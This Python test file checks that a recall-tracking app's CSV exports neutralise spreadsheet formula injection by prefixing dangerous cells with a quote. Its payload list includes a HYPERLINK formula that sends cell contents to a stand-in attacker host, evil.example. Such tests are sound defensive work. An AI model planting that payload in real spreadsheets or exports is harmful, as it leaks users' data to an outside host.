"""Every cell of every CSV export is safe in a spreadsheet (OWASP CSV injection), numbers too."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from lotline.events import Classification
from lotline.recall import fsma
from lotline.recall.api import RecallDetail
from lotline.recall.console import CSV_COLUMNS, contacts_csv
from lotline.recall.domain import CustomerContact, Recall, RecallRequest
from lotline.recall.spreadsheet import safe_cell
from lotline.recall.store import RecallFacts, RecallRecord
from lotline.recall.timeline import ProductInfo, TraceEvent, TraceKind

AT = datetime(2026, 11, 20, 15, 0, tzinfo=UTC)

# What a till, a dock scanner or a supplier could send in any identifier or text field.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "@SUM(1+1)",
    "-1+1",
    "\t=1+2",
    "\r=1+2",
    "=RECALL()",
]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


@pytest.mark.parametrize("value", FORMULAS)
def test_a_would_be_formula_gets_a_leading_quote_and_keeps_its_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["C-7", "L1", "10", "", "Doe, Jane", "'quoted", "a=b"])
def test_plain_values_are_left_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_none_and_numbers_become_plain_cells() -> None:
    assert (safe_cell(None), safe_cell(0), safe_cell(12)) == ("", "0", "12")


def hostile_event(value: str) -> TraceEvent:
    return TraceEvent(
        id=value,
        kind=TraceKind.SOLD,
        at=AT,
        location=value,
        lot_code=value,
        quantity=3,
        serials=[value, "S-2"],
        document_type="sale",
        document_id=value,
        line=1,
        customer_ref=value,
        supplier=value,
        sale_id=value,
        return_reason=value,
        recall_id=value,
        source_event=value,
    )


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_of_the_fsma_csv_starts_a_formula(value: str) -> None:
    product = ProductInfo(sku=value, name=value, gtin=value)
    rows = read(fsma.spreadsheet(product, [hostile_event(value)]))
    assert len(rows) == 1
    row = rows[0]
    assert [column for column, cell in row.items() if runs_as_formula(cell)] == []
    for column in (
        "traceability_lot_code",
        "sku",
        "gtin",
        "product_description",
        "location",
        "reference_document_number",
        "customer_ref",
        "supplier",
        "sale_id",
        "recall_id",
        "return_reason",
        "source_event",
    ):
        assert row[column] == "'" + value, column
    assert row["serials"] == f"'{value} S-2"
    # The numeric columns stay numbers: quantities and lines are never negative.
    assert (row["quantity"], row["line"]) == ("3", "1")


@pytest.mark.parametrize("value", FORMULAS)
def test_no_cell_of_the_contact_list_starts_a_formula(value: str) -> None:
    request = RecallRequest("PHONE", ("L1",), (), "battery", Classification.II, "ana")
    record = RecallRecord(Recall.issue("RC-1", request, AT), None, AT)
    contacts = [CustomerContact("RC-1", value, value, value, value, AT, value)]
    detail = RecallDetail.detail_of(record, RecallFacts([], [], contacts, [], []))
    rows = read(contacts_csv(detail))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert rows == [
        {
            "serial": "'" + value,
            "lot_code": "'" + value,
            "sale_id": "'" + value,
            "store": "'" + value,
            "sold_at": "2026-11-20T15:00:00+00:00",
            "customer_ref": "'" + value,
        }
    ]
